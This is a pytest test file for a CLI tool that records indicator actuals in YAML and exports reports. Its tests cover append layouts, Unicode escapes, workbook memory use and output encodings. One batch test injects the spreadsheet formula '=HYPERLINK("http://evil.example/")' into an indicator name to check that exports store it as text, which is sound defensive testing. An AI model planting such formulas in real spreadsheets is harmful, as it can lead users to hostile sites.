NEL_LS_PS = 'actuals:\n  - {indicator: gdp, period: 2023, value: 75, note: "a\\Nb\\Lc\\Pd"}\n'


@pytest.mark.parametrize("layout", [TAB_IN_VALUE, NEL_LS_PS], ids=["a tab in a value line", "NEL, LS and PS"])
def test_record_reads_what_the_reader_reads(run, layout):
    """The writer used to parse with pure-Python YAML, which refuses a tab after a colon that libyaml reads."""
    Path("actuals.yaml").write_text(layout, encoding="utf-8")
    assert run("status", "--format", "json").exit_code == 0
    result = run("record", "gdp", "2024", "81")
    assert result.exit_code == 0, result.stderr
    written = Path("actuals.yaml").read_text(encoding="utf-8")
    assert written.startswith(layout)
    assert written[len(layout) :].startswith("  - indicator: gdp\n    period: 2024\n    value: 81\n")


def test_a_surrogate_escape_in_the_file_is_refused_alike_by_every_command(run):
    layout = 'actuals:\n  - {indicator: gdp, period: 2023, value: 75, note: "a\\udcffb"}\n'
    Path("actuals.yaml").write_text(layout, encoding="utf-8")
    line = (
        "actuals.yaml:2:57: YAML syntax error: found invalid Unicode character escape code "
        "(while parsing a quoted scalar)"
    )
    for command in (["status"], ["history", "gdp"], ["record", "gdp", "2024", "81"]):
        result = run(*command)
        assert result.exit_code == 1
        assert result.stderr.splitlines()[0] == line
    assert Path("actuals.yaml").read_text(encoding="utf-8") == layout


def test_bytes_a_terminal_passed_undecoded_are_refused_as_text(run):
    result = run("record", "gdp", "2024", "81", "--note", "a\udcffb")  # what Python makes of the byte 0xff
    assert result.exit_code == 1
    assert (
        result.stderr
        == "qzdc: error: note holds bytes that are not text (not UTF-8) (type it again; save a sheet as UTF-8)\n"
    )
    assert not Path("actuals.yaml").exists()


CANNOT_APPEND = {
    "flow style": (
        "actuals: [{indicator: gdp, period: 2023, value: 75}]\n",
        "actuals is written as a list in brackets (flow style); nothing was written "
        '(qzdc appends only after a block list (lines that start with "- "): write the entries as such lines)',
    ),
    "a document end marker": (
        "actuals:\n  - {indicator: gdp, period: 2023, value: 75}\n...\n",
        "the file ends its YAML document with a '...' line; nothing was written "
        "(delete the '...' line, then record again)",
    ),
    "null": (
        "actuals: null\n",
        "actuals: is followed by 'null'; nothing was written (delete it, leaving actuals: alone on its line, then record again)",
    ),
}


@pytest.mark.parametrize("layout", list(CANNOT_APPEND))
def test_a_layout_that_text_at_the_end_cannot_extend_is_named(run, layout):
    text, message = CANNOT_APPEND[layout]
    Path("actuals.yaml").write_text(text, encoding="utf-8")
    result = run("record", "gdp", "2024", "81")
    assert result.exit_code == 1
    assert result.stderr == f"qzdc: error: cannot append to actuals.yaml without changing what it holds: {message}\n"
    assert Path("actuals.yaml").read_text(encoding="utf-8") == text


@pytest.mark.parametrize(
    "layout",
    [
        "actuals:\n  - {indicator: gdp, period: 2023, value: 75}\n\n\n\n",
        "---\nactuals:\n  - {indicator: gdp, period: 2023, value: 75}\n",
        "actuals:\n",
        "\n\n",
    ],
    ids=["blank lines", "a document start marker", "an empty actuals:", "a file of blank lines"],
)
def test_layouts_that_were_rewritten_are_now_appended_to(run, layout):
    Path("actuals.yaml").write_text(layout, encoding="utf-8")
    result = run("record", "gdp", "2024", "81")
    assert result.exit_code == 0, result.stderr
    assert Path("actuals.yaml").read_text(encoding="utf-8").startswith(layout)


def test_the_supported_size_of_an_actuals_file_takes_a_record(run):
    """10,000 entries (README: Limits) is the size qzdc supports: read, appended to and read back."""
    entry = '  - indicator: gdp\n    period: {year}\n    value: {value}\n    source: 区统计局快报\n    recorded_at: "2025-01-01T08:00:00+08:00"\n'
    text = "actuals:\n" + "".join(entry.format(year=2023 + n % 3, value=80 + n % 100 / 10) for n in range(10_000))
    Path("actuals.yaml").write_text(text, encoding="utf-8")
    result = run("record", "gdp", "2024", "81")
    assert result.exit_code == 0, result.stderr
    written = Path("actuals.yaml").read_text(encoding="utf-8")
    assert written.startswith(text)
    assert len(yaml.load(written, Loader=yaml.CSafeLoader)["actuals"]) == 10_001


def test_batch_writes_a_workbook_as_plans_arrive_holding_no_rows(run, plan_copy, tmp_path, monkeypatch):
    """`batch -o x.xlsx` over 2,000 plans took 1.6 GB: every row was held until the end. Now each plan's rows
    go to a write-only sheet as it is read, and the workbook is what the in-memory one was."""
    import openpyxl

    import qzdc.report.batch

    held = []
    real = qzdc.report.batch.Writer.add

    def add(self, result):
        written = real(self, result)
        held.append(self.targets)  # the targets table a document holds in memory
        return written

    monkeypatch.setattr(qzdc.report.batch.Writer, "add", add)
    edit(
        plan_copy / "indicators.yaml", "    name: 地区生产总值\n", "    name: '=HYPERLINK(\"http://evil.example/\")'\n"
    )
    out = tmp_path / "all.xlsx"
    result = run("batch", str(plan_copy), str(plan_copy), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert held == [None, None]
    book = openpyxl.load_workbook(out)
    plans, targets = book.worksheets
    rows = 2 * len(load_plan(plan_copy).targets)
    assert plans.max_row == 1 + 2 and targets.max_row == 1 + rows
    assert targets.freeze_panes == "A2" and targets.auto_filter.ref.endswith(str(1 + rows))
    names = [c for row in targets.iter_rows() for c in row if c.value == '=HYPERLINK("http://evil.example/")']
    assert names and all(c.data_type == "s" for c in names)  # text, never a formula
    status = next(c for c in targets[1] if c.value == "status").column
    assert targets.cell(row=2, column=status).fill.fill_type == "solid"  # coloured by its status


# ── 12b. output encodings: a fallback the encoding can carry, never a crash ────

ENCODINGS = ["gbk", "cp936", "ascii", "latin-1"]
ESCAPE_NOTE = (
    "qzdc: note: the output encoding {encoding} cannot carry some characters; they are written as \\uXXXX "
    "escapes (set PYTHONIOENCODING=utf-8, or write to a file with -o, which is always UTF-8)"
)


def _qzdc(args: list[str], cwd: Path, encoding: str) -> tuple[int, bytes, str]:
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src"), "PYTHONIOENCODING": encoding}
    env.pop("QZDC_LANG", None)
    proc = subprocess.run([sys.executable, "-m", "qzdc", *args], cwd=cwd, env=env, capture_output=True, timeout=120)
    return proc.returncode, proc.stdout, proc.stderr.decode(encoding, "replace")


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize(
    "command", [["status"], ["history", "gdp"], ["show", "gdp"], ["report"], ["owners"]], ids=lambda c: " ".join(c)
)
def test_every_command_writes_in_any_output_encoding(tmp_path, encoding, command):
    code, out, err = _qzdc(command, tmp_path, encoding)
    assert code == 0, err
    assert "Traceback" not in err
    out.decode(encoding)  # every byte is in the encoding the stream was given
    lines = [line for line in err.splitlines() if "cannot carry" in line or "无法表示" in line]
    if encoding in ("ascii", "latin-1"):  # Chinese cannot be carried at all: escapes, and a note in English
        assert lines == [ESCAPE_NOTE.format(encoding=encoding)]
    else:  # GBK carries all of it, with √ for ✓
        assert lines == []


@pytest.mark.parametrize(
    ("encoding", "text", "written"),
    [
        ("gbk", "✓ ✗ ・ 地区", "√ × · 地区"),
        ("ascii", "✓ ✗ ・ … （1）", "v x . ... (1)"),
        ("latin-1", "✓ × 地", "v × \\u5730"),
        ("ascii", 'a“b"', 'a\\u201cb"'),  # no fallback brings in a quote: “ stays an escape
    ],
)
def test_a_character_the_encoding_lacks_goes_out_as_one_it_has(encoding, text, written):
    import io

    from qzdc.render.text import carry_what_the_encoding_cannot

    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding=encoding)
    carry_what_the_encoding_cannot(stream)
    stream.write(text)
    stream.flush()
    assert raw.getvalue().decode(encoding) == written


def test_a_command_notes_only_its_own_escapes(cli):
    """An escape written before a command (here a latin-1 stream, as the test above makes) is not the command's to note.

    The record of escapes is process-wide; it once carried over into the next command run in the same process,
    which then printed the note under an output that had needed none (tests/test_actuals.py failed when run
    after the test above).
    """
    import io

    from qzdc.render.text import carry_what_the_encoding_cannot

    stream = io.TextIOWrapper(io.BytesIO(), encoding="latin-1")
    carry_what_the_encoding_cannot(stream)
    stream.write("地")
    stream.flush()
    result = cli("record", "gpd", "2024", "1", "--lang", "zh")
    assert (result.exit_code, result.stderr) == (2, "qzdc：错误：没有指标 'gpd'（是否想用 gdp？）\n")


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("fmt", ["json", "csv", "markdown"])
def test_machine_formats_keep_their_data_and_shape_in_any_encoding(tmp_path, encoding, fmt):
    import csv
    import io

    code, out, _ = _qzdc(["status", "--format", fmt], tmp_path, encoding)
    assert code == 0
    _, utf8, _ = _qzdc(["status", "--format", fmt], tmp_path, "utf-8")
    text, whole = out.decode(encoding), utf8.decode("utf-8")
    if fmt == "json":  # escapes are JSON's own: the same data
        assert json.loads(text) == json.loads(whole)
    elif fmt == "csv":
        shape = [len(r) for r in csv.reader(io.StringIO(text.lstrip("\ufeff")))]
        assert shape == [len(r) for r in csv.reader(io.StringIO(whole.lstrip("\ufeff")))]
    else:
        assert [line.count(" | ") for line in text.splitlines()] == [line.count(" | ") for line in whole.splitlines()]
